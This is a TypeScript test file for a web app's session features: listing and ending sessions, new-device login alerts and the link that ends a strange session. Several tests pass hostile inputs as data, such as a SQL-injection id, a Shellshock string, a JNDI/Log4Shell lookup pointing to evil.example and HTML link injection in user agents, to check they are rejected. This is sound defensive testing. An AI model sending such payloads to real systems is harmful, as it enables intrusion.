import { describe, it } from 'vitest'
import { bodyOf } from '../support/app/administrators.ts'
import { firefox, safari } from '../support/app/browsers.ts'
import {
  askForAddress,
  codeOf,
  confirmEmail,
  cookiesOf,
  fromOurPage,
  linkIn,
  logIn,
  mailsTo,
  member,
  profile,
  refresh,
  type SessionBody,
  signedInUser,
  someAddress,
  somePassword,
  startApp,
  type TestApp,
} from '../support/app/support.ts'
import { endByLink } from '../support/faults/arranged.ts'

type Entry = {
  id: string
  current: boolean
  created_at: string
  last_used_at: string
  expires_at: string
  ip: string | null
  city: string | null
  country: string | null
  browser: string | null
  os: string | null
}

const berlin = { city: 'Berlin', country: 'DE' }

/** Logs in with a certain client from a certain place. */
const logInBy = async (
  app: TestApp,
  email: string,
  userAgent: string | undefined,
  { cf, ip }: { cf?: Record<string, string>; ip?: string } = {},
): Promise<SessionBody> => {
  const headers = userAgent === undefined ? undefined : { 'User-Agent': userAgent }
  const json = { email, password: somePassword }
  return bodyOf<SessionBody>(await app.call('POST /api/auth/login', { json, headers, cf, ip }))
}

const sessionsOf = async (app: TestApp, bearer: string) =>
  (await bodyOf<{ sessions: Entry[] }>(await app.call('GET /api/user/sessions', { bearer }))).sessions

const end = (app: TestApp, bearer: string, id: string) => app.call(`DELETE /api/user/sessions/${id}`, { bearer })

const isAlive = async (app: TestApp, { access_token, refresh_token }: SessionBody) => [
  (await profile(app, access_token)).status,
  (await refresh(app, refresh_token)).status,
]

describe('the list of sessions (ASVS 7.5.2)', () => {
  it('shows where, when and with what one is signed in', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    const started = app.now()
    const { access_token } = await logInBy(app, email, firefox, { cf: berlin, ip: '192.0.2.7' })

    app.wait({ minutes: 5 })
    const sessions = await sessionsOf(app, access_token)

    expect(sessions).toEqual([
      {
        id: expect.stringMatching(/^[\w-]{22}$/),
        current: true,
        created_at: started.toISOString(),
        last_used_at: started.toISOString(),
        expires_at: new Date(started.getTime() + 7 * 86_400_000).toISOString(),
        ip: '192.0.2.7',
        ...berlin,
        browser: 'Firefox',
        os: 'Linux',
        amr: ['pwd'],
        acr: 'aal1',
      },
    ])
  })

  it('shows what is not known as unknown', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)

    const { access_token } = await logInBy(app, email, 'some program of mine')

    expect(await sessionsOf(app, access_token)).toMatchObject([{ browser: null, os: null, city: null, country: null }])
  })

  it('follows a session that moves: a refresh updates place and time', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    const { refresh_token } = await logInBy(app, email, firefox, { cf: berlin })
    app.wait({ days: 1 })

    const { access_token } = await bodyOf<SessionBody>(
      await app.call('POST /api/auth/refresh', {
        json: { refresh_token },
        ip: '2001:db8::7',
        headers: { 'User-Agent': safari },
        cf: { city: 'Zürich', country: 'CH' },
      }),
    )

    expect(await sessionsOf(app, access_token)).toMatchObject([
      {
        last_used_at: app.now().toISOString(),
        ip: '2001:db8::7',
        city: 'Zürich',
        country: 'CH',
        browser: 'Safari',
        os: 'macOS',
      },
    ])
  })

  it('has the newest use first, marks the requesting one, and contains nobody else’s', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    await signedInUser(app)
    const first = await logInBy(app, email, firefox)
    app.wait({ minutes: 1 })
    const second = await logInBy(app, email, safari)
    app.wait({ minutes: 1 })
    const { access_token } = await bodyOf<SessionBody>(await refresh(app, first.refresh_token))

    const seen = [await sessionsOf(app, access_token), await sessionsOf(app, second.access_token)]

    expect(seen.map((list) => list.map(({ current }) => current))).toEqual([
      [true, false],
      [false, true],
    ])
    expect(seen[0]!.map(({ id }) => id)).toEqual(seen[1]!.map(({ id }) => id))
  })

  it('leaves out what has expired, before and after the clean-up', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    await logIn(app, email)
    app.wait({ days: 7 })
    const { access_token } = await logIn(app, email)

    const before = await sessionsOf(app, access_token)
    await app.cron()
    const after = await sessionsOf(app, access_token)

    expect(before.length).toBe(1)
    expect(after).toEqual(before)
  })

  it('shows no secret: no token, and nothing that makes one (ASVS 14.2.6)', async ({ expect }) => {
    const app = startApp()
    const { access_token, refresh_token } = await signedInUser(app)

    const text = await (await app.call('GET /api/user/sessions', { bearer: access_token })).text()

    for (const part of [refresh_token, refresh_token.split('.').at(-1)!, access_token]) expect(text).not.toContain(part)
    expect(text).not.toMatch(/nonce|generation|user_agent/)
  })
})

describe('ending one session', () => {
  it('ends it at once, and no other (ASVS 7.5.2, 10.4.9, I3)', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    const one = await logInBy(app, email, firefox)
    const two = await logInBy(app, email, safari)
    const id = (await sessionsOf(app, one.access_token)).find(({ current }) => current)!.id

    const response = await end(app, two.access_token, id)

    expect(response.status).toBe(200)
    expect(await isAlive(app, one)).toEqual([401, 401])
    expect(await isAlive(app, two)).toEqual([200, 200])
    expect(await app.kv.get(`sid:${id}`)).not.toBeNull()
  })

  it('can end the requesting one, cookies and all', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    const reply = await app.call('POST /api/auth/login', {
      json: { email, password: somePassword },
      headers: fromOurPage,
    })
    const cookies = cookiesOf(reply)
    const listed = await app.call('GET /api/user/sessions', { cookies })
    const { sessions } = await bodyOf<{ sessions: Entry[] }>(listed)

    const response = await app.call(`DELETE /api/user/sessions/${sessions[0]!.id}`, { cookies, headers: fromOurPage })

    expect(response.status).toBe(200)
    expect(cookiesOf(response)).toEqual({ token: '', refresh_token: '' })
    expect((await app.call('GET /api/user/profile', { cookies })).status).toBe(401)
  })

  it('does not end somebody else’s, and does not reveal that it exists (A-19)', async ({ expect }) => {
    const app = startApp()
    const one = await signedInUser(app)
    const two = await signedInUser(app)
    const id = (await sessionsOf(app, two.access_token))[0]!.id

    const theirs = await end(app, one.access_token, id)
    const nobodys = await end(app, one.access_token, 'x'.repeat(22))

    expect([theirs.status, await codeOf(theirs)]).toEqual([404, 'not_found'])
    expect([nobodys.status, await codeOf(nobodys)]).toEqual([404, 'not_found'])
    expect((await profile(app, two.access_token)).status).toBe(200)
    expect(await app.kv.get(`sid:${id}`)).toBeNull()
  })

  it.for(["' or 1=1--", '%', '*', '..', '__proto__'])('treats %s as the id of no session', async (id, { expect }) => {
    const app = startApp()
    const { access_token } = await signedInUser(app)

    const response = await app.request(`DELETE /api/user/sessions/${encodeURIComponent(id)}`, { bearer: access_token })
    await app.settled()

    expect([404, 405]).toContain(response.status)
    expect((await profile(app, access_token)).status).toBe(200)
  })

  it('is 404 the second time', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    const one = await logIn(app, email)
    const two = await logIn(app, email)
    const id = (await sessionsOf(app, one.access_token)).find(({ current }) => current)!.id

    const statuses = [(await end(app, two.access_token, id)).status, (await end(app, two.access_token, id)).status]

    expect(statuses).toEqual([200, 404])
  })

  it('is not for a session that has ended itself', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    const one = await logIn(app, email)
    const two = await logIn(app, email)
    const id = (await sessionsOf(app, two.access_token)).find(({ current }) => current)!.id
    await app.call('POST /api/auth/logout', { bearer: one.access_token })

    const response = await end(app, one.access_token, id)

    expect(response.status).toBe(401)
    expect((await profile(app, two.access_token)).status).toBe(200)
  })
})

describe('ending all other sessions', () => {
  it('ends them at once, and keeps the requesting one', async ({ expect }) => {
    const app = startApp()
    const stranger = await signedInUser(app)
    const email = await member(app)
    const [one, two, three] = [await logIn(app, email), await logIn(app, email), await logIn(app, email)]

    const response = await app.call('DELETE /api/user/sessions', { bearer: two.access_token })

    expect(response.status).toBe(200)
    expect(await isAlive(app, one)).toEqual([401, 401])
    expect(await isAlive(app, three)).toEqual([401, 401])
    expect(await isAlive(app, stranger)).toEqual([200, 200])
    expect(await isAlive(app, two)).toEqual([200, 200])
  })

  it('is fine if there are none', async ({ expect }) => {
    const app = startApp()
    const { access_token } = await signedInUser(app)

    const response = await app.call('DELETE /api/user/sessions', { bearer: access_token })

    expect(response.status).toBe(200)
    expect((await sessionsOf(app, access_token)).length).toBe(1)
  })

  it('is not for a session that has ended', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    const one = await logIn(app, email)
    const two = await logIn(app, email)
    await app.call('POST /api/auth/logout', { bearer: one.access_token })

    const response = await app.call('DELETE /api/user/sessions', { bearer: one.access_token })

    expect(response.status).toBe(401)
    expect((await profile(app, two.access_token)).status).toBe(200)
  })

  it('drops a pending address', async ({ expect }) => {
    const app = startApp()
    const { access_token } = await signedInUser(app)
    const email = someAddress('next')
    await app.call('PATCH /api/user/profile', { bearer: access_token, json: { email } })

    await app.call('DELETE /api/user/sessions', { bearer: access_token })

    expect(await bodyOf(await profile(app, access_token))).toMatchObject({ pending_email: null })
  })
})

const newDevice = /new device/i
const toldOf = (app: TestApp, email: string) => mailsTo(app, email).filter(({ subject }) => newDevice.test(subject))

describe('a log-in from a new device', () => {
  it('is reported by mail: device, place and time (ASVS 6.3.5)', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    await logInBy(app, email, firefox, { cf: berlin })

    await logInBy(app, email, safari, { cf: { city: 'Zürich', country: 'CH' }, ip: '192.0.2.99' })

    const [mail] = toldOf(app, email)
    expect(mail?.text).toContain('Safari on macOS, near Zürich, CH')
    expect(mail?.html).toContain('Safari on macOS, near Zürich, CH')
    expect(mail?.text).not.toContain('192.0.2.99')
    expect(toldOf(app, email).length).toBe(1)
  })

  it('is not reported if it is the very first', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)

    await logInBy(app, email, firefox, { cf: berlin })

    expect(toldOf(app, email)).toEqual([])
  })

  it.for([
    ['the same device', firefox, berlin],
    ['another version of the same browser', firefox.replaceAll('140.0', '141.0'), berlin],
    ['the same device in another city', firefox, { city: 'Hamburg', country: 'DE' }],
  ] as const)('is not: %s', async ([, userAgent, cf], { expect }) => {
    const app = startApp()
    const email = await member(app)
    await logInBy(app, email, safari, { cf: berlin })
    await logInBy(app, email, firefox, { cf: berlin })
    const before = toldOf(app, email).length

    app.wait({ days: 3 })
    await logInBy(app, email, userAgent, { cf })

    expect(before).toBe(1)
    expect(toldOf(app, email).length).toBe(before)
  })

  it.for([
    ['another browser', safari, berlin],
    ['another country', firefox, { city: 'Zürich', country: 'CH' }],
    ['a program without a name', undefined, berlin],
  ] as const)('is: %s', async ([, userAgent, cf], { expect }) => {
    const app = startApp()
    const email = await member(app)
    await logInBy(app, email, firefox, { cf: berlin })

    await logInBy(app, email, userAgent, { cf })

    expect(toldOf(app, email).length).toBe(1)
  })

  it('is not reported if the password was wrong', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    await logInBy(app, email, firefox)

    await app.call('POST /api/auth/login', {
      json: { email, password: 'not the passphrase' },
      headers: { 'User-Agent': safari },
    })

    expect(toldOf(app, email)).toEqual([])
  })

  it('is reported once if two come at the same moment', async ({ expect }) => {
    const app = startApp()
    const email = await member(app)
    await logInBy(app, email, firefox)

    await Promise.all([logInBy(app, email, safari), logInBy(app, email, safari)])

    expect(toldOf(app, email).length).toBe(1)
  })

  it.for([
    'Mozilla/5.0 <a href="https://evil.example">click</a> Sentinel/1.0',
    'Sentinel/7.0 (https://evil.example)',
    'Firefox/140.0 Sentinel https://evil.example',
    'Mozilla/5.0 (Sentinel; https://evil.example) Chrome/120.0',
    'Mozilla/5.0 (Linux; Android 10; Sentinel Build/evil.example) AppleWebKit/537.36 Chrome/120.0 Mobile Safari/537.36',
    'Mozilla/5.0 (Windows NT Sentinel) evil.example',
    'Sentinel',
    'Sentinel evil.example '.repeat(500),
    '() { :; }; Sentinel evil.example',
    '${jndi:ldap://evil.example/Sentinel}',
    '__proto__ constructor Sentinel/1 evil.example',
  ])('says nothing that the client made up: %s', async (userAgent, { expect }) => {
    const app = startApp()
    const email = await member(app)
    await logInBy(app, email, safari)

    const { access_token } = await logInBy(app, email, userAgent)

    expect(toldOf(app, email).length).toBe(1)
    expect(JSON.stringify(toldOf(app, email))).not.toMatch(/sentinel|evil|jndi/i)
    expect(JSON.stringify(await sessionsOf(app, access_token))).not.toMatch(/sentinel|evil|jndi/i)
  })
})

describe('the link in that mail', () => {
  const strangeDevice = async (app: TestApp) => {
    const email = await member(app)
    const own = await logInBy(app, email, firefox)
    const strange = await logInBy(app, email, safari)
    return { email, own, strange, link: linkIn(app, email) }
  }

  it('ends that session at once, and no other, and can be followed twice', async ({ expect }) => {
    const app = startApp()
    const { own, strange, link } = await strangeDevice(app)

    const replies = [await endByLink(app, link), await endByLink(app, link)]

    expect(replies.map(({ status }) => status)).toEqual([200, 200])
    expect(await isAlive(app, strange)).toEqual([401, 401])
    expect(await isAlive(app, own)).toEqual([200, 200])
  })

  it('ends it also after it was refreshed', async ({ expect }) => {
    const app = startApp()
    const { strange, link } = await strangeDevice(app)
    app.wait({ days: 6 })
    const next = await bodyOf<SessionBody>(await refresh(app, strange.refresh_token))
    app.wait({ days: 6 })

    await endByLink(app, link)

    expect((await refresh(app, next.refresh_token)).status).toBe(401)
  })

  it('cancels a change of address that the intruder requested (A-16)', async ({ expect }) => {
    const app = startApp()
    const { email, own, strange, link } = await strangeDevice(app)
    const intruder = someAddress('intruder')
    await app.call('PATCH /api/user/profile', { bearer: strange.access_token, json: { email: intruder } })

    await endByLink(app, link)

    const confirmed = await confirmEmail(app, linkIn(app, intruder), { password: somePassword })
    expect(confirmed.status).toBe(400)
    expect(await bodyOf(await profile(app, own.access_token))).toMatchObject({ email, pending_email: null })
  })

  it('does not cancel a change of address that the owner requested', async ({ expect }) => {
    const app = startApp()
    const { own, link } = await strangeDevice(app)
    const next = someAddress('next')
    await askForAddress(app, own.access_token, next)

    await endByLink(app, link)

    const confirmed = await confirmEmail(app, linkIn(app, next), { bearer: own.access_token })
    expect(confirmed.status).toBe(200)
    expect(await bodyOf(await profile(app, own.access_token))).toMatchObject({ email: next })
  })

  it('ends it also after its intruder changed the password, and got another id with it (ASVS 7.2.4)', async ({
    expect,
  }) => {
    const app = startApp()
    const { email, strange, link } = await strangeDevice(app)
    const json = { current_password: somePassword, new_password: 'the passphrase of an intruder' }
    const next = await bodyOf<SessionBody>(
      await app.call('POST /api/user/change-password', { bearer: strange.access_token, json }),
    )
    const later = await bodyOf<SessionBody>(
      await app.call('POST /api/user/change-password', {
        bearer: next.access_token,
        json: { current_password: json.new_password, new_password: 'another one of an intruder' },
      }),
    )

    const reply = await endByLink(app, link)

    expect(reply.status).toBe(200)
    for (const session of [strange, next, later]) expect(await isAlive(app, session)).toEqual([401, 401])
    expect(mailsTo(app, email).at(-1)?.text).toContain('/auth/end-sessions#token=')
  })

  it.for([
    { days: 29.99, status: 200 },
    { days: 30, status: 400 },
  ])('is answered by $status after $days days', async ({ days, status }, { expect }) => {
    const app = startApp()
    const { link } = await strangeDevice(app)

    app.wait({ days })
    await app.cron()
    const response = await endByLink(app, link)

    expect(response.status).toBe(status)
  })

  it('is void with its user', async ({ expect }) => {
    const app = startApp()
    const { own, link } = await strangeDevice(app)
    const json = { current_password: somePassword }
    await app.call('DELETE /api/user/account', { bearer: own.access_token, json })

    expect((await endByLink(app, link)).status).toBe(400)
  })
})
